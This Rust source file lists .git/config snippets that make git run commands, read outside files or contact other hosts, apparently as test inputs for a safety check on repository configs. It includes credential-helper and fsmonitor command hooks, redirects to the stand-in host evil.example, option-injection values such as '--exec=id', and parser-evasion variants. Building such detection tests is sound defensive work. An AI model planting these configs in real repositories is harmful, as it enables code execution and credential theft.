//! Lines of a `.git/config` that make git read, write, run or reach something else. `OUT` is a folder outside.

pub(in crate::tools) const LINES: &[(&str, &str)] = &[
    ("core.worktree", "[core]\n\tworktree = OUT\n"),
    ("core.worktree beside the header", "[core] worktree = OUT\n"),
    (
        "core.worktree in other letters",
        "[CORE]\n\tWorkTree = OUT\n",
    ),
    (
        "core.worktree after a value that goes on",
        "[core]\n\tbare = \"false\" \\\n worktree = OUT\n",
    ),
    ("core.bare", "[core]\n\tbare = true\n"),
    ("core.fsmonitor", "[core]\n\tfsmonitor = touch OUT/ran\n"),
    ("core.hooksPath", "[core]\n\thooksPath = OUT\n"),
    ("core.sshCommand", "[core]\n\tsshCommand = touch OUT/ran\n"),
    ("core.gitProxy", "[core]\n\tgitProxy = OUT/ran\n"),
    (
        "core.attributesFile",
        "[core]\n\tattributesFile = OUT/secret\n",
    ),
    ("core.excludesFile", "[core]\n\texcludesFile = OUT/secret\n"),
    ("core.editor", "[core]\n\teditor = touch OUT/ran\n"),
    ("core.pager", "[core]\n\tpager = touch OUT/ran\n"),
    ("core.askPass", "[core]\n\taskPass = OUT/ran\n"),
    (
        "core.alternateRefsCommand",
        "[core]\n\talternateRefsCommand = touch OUT/ran\n",
    ),
    ("include", "[include]\n\tpath = OUT/secret\n"),
    (
        "includeIf gitdir",
        "[includeIf \"gitdir:/\"]\n\tpath = OUT/secret\n",
    ),
    (
        "includeIf onbranch",
        "[includeIf \"onbranch:**\"]\n\tpath = OUT/secret\n",
    ),
    (
        "includeIf hasconfig",
        "[includeIf \"hasconfig:remote.*.url:**\"]\n\tpath = OUT/secret\n",
    ),
    (
        "url.insteadOf",
        "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n",
    ),
    (
        "url.pushInsteadOf",
        "[url \"ext::touch OUT/ran \"]\n\tpushInsteadOf = https://\n",
    ),
    (
        "remote.pushurl",
        "[remote \"origin\"]\n\tpushurl = https://evil.example/\n",
    ),
    (
        "remote.proxy",
        "[remote \"origin\"]\n\tproxy = http://evil.example/\n",
    ),
    (
        "remote.receivepack",
        "[remote \"origin\"]\n\treceivepack = touch OUT/ran\n",
    ),
    (
        "remote.uploadpack",
        "[remote \"origin\"]\n\tuploadpack = touch OUT/ran\n",
    ),
    ("remote.vcs", "[remote \"origin\"]\n\tvcs = ext\n"),
    (
        "remote.promisor",
        "[remote \"origin\"]\n\tpromisor = true\n",
    ),
    (
        "a remote with a strange name",
        "[remote \"--exec=id\"]\n\turl = https://evil.example/\n",
    ),
    (
        "credential.helper",
        "[credential]\n\thelper = !touch OUT/ran\n",
    ),
    (
        "credential.*.helper",
        "[credential \"https://github.com\"]\n\thelper = store --file=OUT/ran\n",
    ),
    ("http.proxy", "[http]\n\tproxy = http://evil.example/\n"),
    (
        "http.cookieFile",
        "[http \"https://github.com\"]\n\tcookieFile = OUT/secret\n",
    ),
    (
        "protocol.ext.allow",
        "[protocol \"ext\"]\n\tallow = always\n",
    ),
    ("filter.clean", "[filter \"x\"]\n\tclean = touch OUT/ran\n"),
    (
        "filter.smudge",
        "[filter \"x\"]\n\tsmudge = touch OUT/ran\n\trequired\n",
    ),
    (
        "filter.process",
        "[filter \"x\"]\n\tprocess = touch OUT/ran\n",
    ),
    ("diff.external", "[diff]\n\texternal = touch OUT/ran\n"),
    (
        "diff.textconv",
        "[diff \"x\"]\n\ttextconv = touch OUT/ran\n",
    ),
    ("diff.command", "[diff \"x\"]\n\tcommand = touch OUT/ran\n"),
    ("merge.driver", "[merge \"x\"]\n\tdriver = touch OUT/ran\n"),
    (
        "mergetool.cmd",
        "[mergetool \"x\"]\n\tcmd = touch OUT/ran\n",
    ),
    (
        "gpg.program",
        "[gpg]\n\tprogram = OUT/ran\n[commit]\n\tgpgSign = true\n",
    ),
    ("gpg.ssh.program", "[gpg \"ssh\"]\n\tprogram = OUT/ran\n"),
    ("alias", "[alias]\n\tstatus = !touch OUT/ran\n"),
    ("pager", "[pager]\n\tlog = touch OUT/ran\n"),
    ("sequence.editor", "[sequence]\n\teditor = touch OUT/ran\n"),
    (
        "interactive.diffFilter",
        "[interactive]\n\tdiffFilter = touch OUT/ran\n",
    ),
    ("init.templateDir", "[init]\n\ttemplateDir = OUT\n"),
    (
        "uploadpack.packObjectsHook",
        "[uploadpack]\n\tpackObjectsHook = touch OUT/ran\n",
    ),
    (
        "submodule.url",
        "[submodule \"x\"]\n\turl = -oProxyCommand=touch\n",
    ),
    (
        "submodule.update",
        "[submodule \"x\"]\n\tupdate = !touch OUT/ran\n",
    ),
    ("trace2.eventTarget", "[trace2]\n\teventTarget = OUT/ran\n"),
    ("hook.command", "[hook \"x\"]\n\tcommand = touch OUT/ran\n"),
    (
        "trailer.command",
        "[trailer \"x\"]\n\tcommand = touch OUT/ran\n",
    ),
    ("tar.command", "[tar \"x\"]\n\tcommand = touch OUT/ran\n"),
    (
        "gc.recentObjectsHook",
        "[gc]\n\trecentObjectsHook = touch OUT/ran\n",
    ),
    (
        "core.hooksPath behind a quoted section",
        "[core] ; x\n\tHOOKSPATH = \"OU\"\"T\"\n",
    ),
    ("lfs.url", "[lfs]\n\turl = https://evil.example/\n"),
    ("core.sparseCheckout", "[core]\n\tsparseCheckout\n"),
    ("index.sparse", "[index]\n\tsparse = true\n"),
    ("an unknown extension", "[extensions]\n\tnewShape = true\n"),
    (
        "extensions.worktreeConfig",
        "[extensions]\n\tworktreeConfig = true\n",
    ),
    (
        "extensions.refStorage",
        "[extensions]\n\trefStorage = reftable\n",
    ),
    (
        "extensions.partialClone",
        "[extensions]\n\tpartialClone = origin\n",
    ),
    ("a byte order mark", "\u{feff}[core]\n\tworktree = OUT\n"),
    (
        "a lone carriage return",
        "[core]\n\tbare = false\rworktree = OUT\n",
    ),
    ("a NUL", "[core]\n\tbare = false\0\n"),
    ("an old subsection", "[core.x]\n\tworktree = OUT\n"),
    ("a key before any section", "worktree = OUT\n"),
];
